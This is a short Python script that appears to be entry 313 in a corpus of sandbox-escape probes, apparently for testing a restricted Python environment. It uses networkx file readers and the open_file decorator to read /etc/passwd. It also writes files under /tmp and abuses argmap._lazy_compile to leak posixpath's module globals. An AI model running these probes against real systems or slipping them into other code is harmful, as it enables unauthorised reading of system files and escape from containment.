# escape: 313
# packages: networkx
# technique: networkx opens what it is told to read or write, and compiles decorated functions
# family: dfile
# goal: read-file
# first-seen: open_file decorator, argmap, readers and writers
import networkx as nx, os
from networkx.utils.decorators import argmap, open_file
G = nx.path_graph(3)
def go(f):
    try: text = str(f())
    except BaseException: return
    if "root:" in text: print("ESCAPED:" + text[:40])
go(lambda: [str(n) for n in nx.read_edgelist("/etc/passwd", delimiter="\n", create_using=nx.Graph())])
go(lambda: nx.read_adjlist("/etc/passwd", delimiter="\n").nodes)
@open_file("path", mode="r")
def read(path): return path.read()
go(lambda: read("/etc/passwd"))
for write in (nx.write_edgelist, nx.write_gml, nx.write_graphml, nx.write_adjlist):
    go(lambda: write(G, "/tmp/escape-313"))
go(lambda: nx.nx_agraph.to_agraph(G).draw("/tmp/escape-313"))
# A deputy that sets code: over a function of the library.
class Map:
    def compile(self, f):
        def stolen(*a, **k): return stolen.__globals__
        return stolen
try:
    import posixpath
    posixpath.join.__argmap__ = Map()
    posixpath.join.__wrapped__ = posixpath.join
    real = argmap._lazy_compile(posixpath.join)
    if "_os" in real() or "genericpath" in posixpath.join("a", "b"): print("ESCAPED:globals of posixpath")
except Exception: pass
